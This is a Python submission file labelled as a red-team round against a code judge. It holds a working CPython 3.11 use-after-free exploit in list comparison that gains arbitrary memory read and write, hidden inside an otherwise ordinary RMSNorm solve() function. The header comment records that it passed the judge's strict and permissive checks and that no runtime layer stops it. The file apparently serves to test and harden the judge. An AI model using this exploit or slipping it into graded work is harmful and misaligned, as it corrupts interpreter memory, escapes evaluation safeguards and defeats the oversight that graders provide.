# Seventh session's red team, round 6 (2026-12-06, CPU judge): passed strict and permissive at
# f850d23 (see the case's why); no runtime layer stops it (docs/judge.md, residual risks).
# list_richcompare (CPython 3.11): after the first differing index, the final
# PyObject_RichCompare(vl->ob_item[i], wl->ob_item[i], op) uses borrowed items. v.__lt__ clears
# both lists and returns NotImplemented: v and w are freed, then do_richcompare calls w's
# reflected __gt__ with the freed w as self; a bytearray buffer of the same size class takes the
# block, laid out as a fake bytearray header over the whole address space.
import torch

_state = {}
_N = 20
_BS = 16 + 8 * _N  # W's basicsize; its block is 16 (GC header) + that
_FAKE = (bytes(16) + (1 << 40).to_bytes(8, 'little') + id(bytearray).to_bytes(8, 'little')
         + (1 << 60).to_bytes(8, 'little') * 2 + bytes(24)).ljust(_BS + 16 - 1, b'\0')


class W:
    __slots__ = tuple('s%d' % i for i in range(_N))

    def __gt__(self, other):
        hold = bytearray(_FAKE)
        _state['w'] = self
        _state['h'] = hold
        return False


def _rawmem():
    a = []
    b = []

    class V:
        def __lt__(self, other):
            a.clear()
            b.clear()
            return NotImplemented

    a.append(V())
    b.append(W())
    a < b
    m = _state.get('w')
    if type(m) is not bytearray:
        raise RuntimeError("no fake object")
    return m


def _prim():
    if 'mem' not in _state:
        _state['mem'] = _rawmem()
    return _state['mem']


def _check(o, cls):
    mem = _prim()
    if not (type(o) is cls):
        raise RuntimeError("wrong class given")
    tp = int.from_bytes(mem[id(o) + 8:id(o) + 16], 'little')
    rc = int.from_bytes(mem[id(o):id(o) + 8], 'little')
    if tp != id(cls):
        raise RuntimeError("type pointer mismatch")
    return [(cls.__name__, hex(id(o)), hex(tp), rc)]


print("RAWMEM import:", _check(_state, dict), _check(1.5, float))


def solve(x, residual, weight):
    if 'done' not in _state:
        _state['done'] = 1
        print("RAWMEM solve:", _check(weight, torch.Tensor), _check(x, torch.Tensor))
        mem = _prim()
        b = bytes(b'immutable!')
        mem[id(b) + 32] = 0x49
        if b[0] != 0x49:
            raise RuntimeError("write failed")
        print("RAWMEM write: immutable bytes now", b)
    s = x.float() + residual.float()
    inv = torch.rsqrt(s.pow(2).mean(-1, keepdim=True) + 1e-5)
    return (s * inv * weight.float()).to(x.dtype)
